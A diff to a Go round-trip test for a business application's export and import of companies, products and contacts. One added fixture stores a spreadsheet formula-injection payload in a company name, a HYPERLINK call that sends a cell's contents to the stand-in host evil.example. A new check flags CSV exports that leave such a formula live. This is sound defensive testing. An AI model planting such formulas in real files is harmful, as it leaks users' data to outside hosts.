@@ -142,8 +142,12 @@ func TestExportsComeBack(t *testing.T) {
 	f := start(t)
 	f.fillExport()
 	company := f.made("/api/companies", `{"name":"-1+1;=2","code":"B2","notes":"a'=b","phone":"+90-212","country":"TR","paymentTermDays":30,"riskLimit":"234.5","metadata":{"a":"x,=y"}}`)
+	f.made("/api/companies", `{"name":"a;\"=HYPERLINK(\"http://evil.example/?\"&A1);b","code":"C2","notes":"'=x","website":"a;\u00a0=1"}`)
 	f.made("/api/products", `{"name":"@Kalem","code":"P1","vatRate":"10","salePrice":"1249.5","prices":[{"currency":"USD","salePrice":"30"}],"criticalStock":"2.5"}`)
-	f.made("/api/contacts", fmt.Sprintf(`{"companyId":%q,"firstName":"Ayşe","email":"a@b.co","isPrimary":true}`, company))
+	for _, name := range []string{"Ayşe", "Ali"} { // who share a mailbox
+		f.made("/api/contacts", fmt.Sprintf(`{"companyId":%q,"firstName":%q,"email":"a@b.co"}`, company, name))
+	}
+	f.made("/api/contacts", fmt.Sprintf(`{"companyId":%q,"firstName":"Can"}`, company))
 	for _, resource := range []string{"companies", "products", "contacts"} {
 		was := f.ask("GET /api/"+resource+"/export?format=ndjson", "", "").body
 		rows := bytes.Count(was, []byte("\n"))
@@ -155,6 +159,9 @@ func TestExportsComeBack(t *testing.T) {
 				headers = "Content-Type: application/octet-stream"
 			}
 			res := f.ask("POST /api/imports?resource="+resource, string(file), headers)
+			if format == "csv" && bytes.Contains(file, []byte(`;""=`)) {
+				t.Errorf("a formula behind a semicolon: %s", file)
+			}
 			if res.status != 200 || member(res.body, "unchanged") != float64(rows) || rows == 0 {
 				t.Errorf("%s as %s: %d %s\n%.300q", resource, format, res.status, res.body, file)
 			}
@@ -178,7 +185,7 @@ func TestExportsComeBack(t *testing.T) {
 	}
 	want := names()
 	f.as = "two"
-	f.row(row{"", "POST /api/imports?resource=companies", string(file), asCSV, 200, "", []string{"created = 3"}})
+	f.row(row{"", "POST /api/imports?resource=companies", string(file), asCSV, 200, "", []string{"created = 4"}})
 	if got := names(); fmt.Sprint(got) != fmt.Sprint(want) {
 		t.Errorf("%q, want %q", got, want)
 	}
